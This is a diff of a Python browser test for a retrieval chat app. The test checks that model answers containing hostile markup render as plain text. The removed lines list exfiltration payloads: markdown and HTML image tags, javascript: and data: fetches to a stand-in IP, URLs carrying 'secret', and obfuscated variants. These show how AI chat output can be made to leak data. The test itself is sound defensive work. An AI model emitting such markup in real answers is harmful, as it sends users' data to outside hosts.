@@ -1,12 +1,12 @@
 """The pages in a real browser. Set RAGKIT_SCREENSHOTS to a folder to keep the pictures."""
 
+import json
 import os
 import socket
 import subprocess
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass, field
-from itertools import product
 from pathlib import Path
 from typing import Literal
 
@@ -16,6 +16,7 @@ from playwright.sync_api import Page, expect, sync_playwright
 
 from ragkit_apps import launch
 from tests.apps.screens import BURNS, REFUNDS
+from tests.hostile import OUTPUTS
 
 CHROMIUM = Path("/usr/bin/chromium")
 ARGUMENTS = [
@@ -34,37 +35,8 @@ QUESTION = "How long does a refund take?"
 QUOTE = "A refund takes five working days."
 PATIENCE = 60_000
 
-_ADDRESSES = (
-    "http://203.0.113.7/a.png",
-    "//203.0.113.7/b.png",
-    "https://203.0.113.7/c?q=secret",
-    "javascript:fetch('http://203.0.113.7/d')",
-    "data:text/html,<script>fetch('http://203.0.113.7/e')</script>",
-    "&#104;ttp://203.0.113.7/f.png",
-    "%68ttp://203.0.113.7/g.png",
-    "ht\u200btp://203.0.113.7/h.png",
-)
-_FORMS = (
-    "![x]({0})",
-    "![x][r]\n\n[r]: {0}",
-    "[![x]({0})]({0})",
-    "![[x]]({0})",
-    "<{0}>",
-    "{0}",
-    '<img src="{0}">',
-    '<svg><image href="{0}"/></svg>',
-    "<style>@import '{0}'; body {{background: url({0})}}</style>",
-    '<iframe src="{0}"></iframe>',
-    '<meta http-equiv="refresh" content="0;url={0}">',
-    '<link rel="prefetch" href="{0}">',
-    "$\\href{{{0}}}{{x}}$ $\\includegraphics{{{0}}}$",
-    "| a |\n|---|\n| ![x]({0}) |",
-    "x[^1]\n\n[^1]: ![x]({0})",
-    "\x1b]8;;{0}\x1b\\x\x1b]8;;\x1b\\ \u202e{0}",
-)
-HOSTILE = [form.format(address) for form, address in product(_FORMS, _ADDRESSES)]
-
 _SCRIPT = """
+import json
 from pathlib import Path
 from ragkit import Config, open_workspace
 from ragkit.testing import ScriptedChat, WordEmbeddings
@@ -72,7 +44,7 @@ from ragkit_apps.main import run
 
 class Chat(ScriptedChat):
     def _next(self, messages):
-        hostile = Path("hostile.txt").read_text(encoding="utf-8")
+        hostile = json.loads(Path("hostile.json").read_text(encoding="utf-8"))
         return "A refund takes five working days [1]. " + (hostile if "hostile" in str(messages[-1].content) else "")
 
 config = Config(assistant={"locale": "en-GB"}, models={"url": "http://127.0.0.1:9"})
@@ -115,7 +87,7 @@ def root(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     home = tmp_path_factory.mktemp("pages")
     script = home / "pages.py"
     script.write_text(_SCRIPT, encoding="utf-8")
-    (home / "hostile.txt").write_text("\n\n".join(HOSTILE), encoding="utf-8")
+    (home / "hostile.json").write_text(json.dumps("\n\n".join(OUTPUTS)), encoding="utf-8")
     port = free_port()
     with (home / "log").open("w") as log:
         server = subprocess.Popen(launch.command(port, script=script), cwd=home, stdout=log, stderr=log)
@@ -207,13 +179,13 @@ def test_an_uploaded_document_answers_and_its_citation_opens_at_the_words(page: 
 
 
 def test_what_a_model_writes_fetches_nothing_and_hides_nothing(page: Page, browser: Browser) -> None:
-    assert len(HOSTILE) >= 120
+    assert len(OUTPUTS) >= 120
     upload(page, browser, "refunds.md", REFUNDS)
     go(page, browser)
     ask(page, "How long does a hostile refund take?")
     answer = page.locator(".rk-answer")
     expect(answer).to_have_count(1)
-    expect(answer).to_contain_text("![x](http://203.0.113.7/a.png)")
+    expect(answer).to_contain_text("! [status] (http ://203.0.113.7/a.png)")
     assert answer.locator("a, img, svg, iframe, style, meta, link, script, object, embed, form").count() == 0
     browser.picture(page, "hostile")
     page.wait_for_timeout(1000)
